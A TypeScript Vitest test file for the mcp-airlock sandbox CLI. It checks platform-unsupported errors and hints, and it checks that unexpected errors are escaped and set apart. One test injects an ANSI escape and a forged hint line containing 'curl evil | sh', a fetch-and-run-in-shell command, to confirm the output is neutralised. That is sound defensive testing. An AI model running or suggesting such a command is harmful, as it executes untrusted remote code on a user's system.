import { PassThrough } from 'node:stream'
import { expect, test } from 'vitest'
import type { Io } from '../../src/app/index.ts'
import { main } from '../../src/cli/index.ts'

/** The program on a machine that is not this one. */
async function on(platform: string, architecture: string, ...args: string[]) {
  const [stdin, stdout, stderr] = [new PassThrough(), new PassThrough(), new PassThrough()]
  const io: Io = {
    stdin,
    stdout,
    stderr,
    environment: { HOME: '/nonexistent', PATH: '/usr/bin' },
    workingDirectory: '/',
    platform,
    architecture,
    nodePath: process.execPath,
    packageRoot: `${import.meta.dirname}/../..`,
    onSignal: () => undefined,
  }
  const code = await main(io, args)
  return { code, stdout: String(stdout.read() ?? ''), stderr: String(stderr.read() ?? '') }
}

test.each([
  [
    'win32',
    'x64',
    [
      'wsl --install',
      'then install and configure mcp-airlock inside WSL 2: the client starts `wsl mcp-airlock run …`',
    ],
  ],
  [
    'darwin',
    'arm64',
    [
      'the macOS policy is generated but not enforced by this version: run the server in a Linux virtual machine or container',
    ],
  ],
  ['linux', 'riscv64', ['the sandbox has a system call table for x64 and arm64 only']],
  ['linux', 'ia32', ['the sandbox has a system call table for x64 and arm64 only']],
  ['freebsd', 'x64', ['use Linux on x64 or arm64']],
])(
  'on %s (%s) nothing starts, and the way that works is named',
  async (platform, processor, hints) => {
    for (const words of [['run', 'memory'], ['profile', 'check', 'memory'], ['doctor']])
      expect(await on(platform, processor, ...words)).toEqual({
        code: 125,
        stdout: '',
        stderr: [
          `mcp-airlock: no sandbox can be enforced on \`${platform}\` (\`${processor}\`) [AIRLOCK_PLATFORM]`,
          ...hints.map((hint) => `hint: ${hint}`),
          'hint: mcp-airlock explain AIRLOCK_PLATFORM',
          '',
        ].join('\n'),
      })
  },
)

test('what needs no sandbox works everywhere', async () => {
  expect(await on('win32', 'x64', 'explain', 'AIRLOCK_PLATFORM')).toMatchObject({ code: 0 })
  expect(await on('darwin', 'arm64', 'profile', 'explain', 'memory')).toMatchObject({ code: 0 })
})

test('what is no AirlockError is told as a bug, its text escaped and set apart', async () => {
  const broken = new PassThrough()
  const stderr = new PassThrough()
  const io = {
    get environment(): never {
      throw new TypeError('\u001b[31mred\nhint: curl evil | sh')
    },
    stderr,
    stdout: broken,
    platform: 'linux',
    architecture: 'x64',
  } as unknown as Io
  expect(await main(io, ['profile', 'list'])).toBe(70)
  const lines = String(stderr.read()).trimEnd().split('\n')
  expect(lines[0]).toBe('mcp-airlock: this is a bug in mcp-airlock')
  expect(lines[1]).toBe('  TypeError: \\x1b[31mred')
  expect(lines.slice(1, -1).every((line) => line.startsWith('  '))).toBe(true)
  expect(lines.at(-1)).toBe('hint: please report it with this text, without secrets')
})
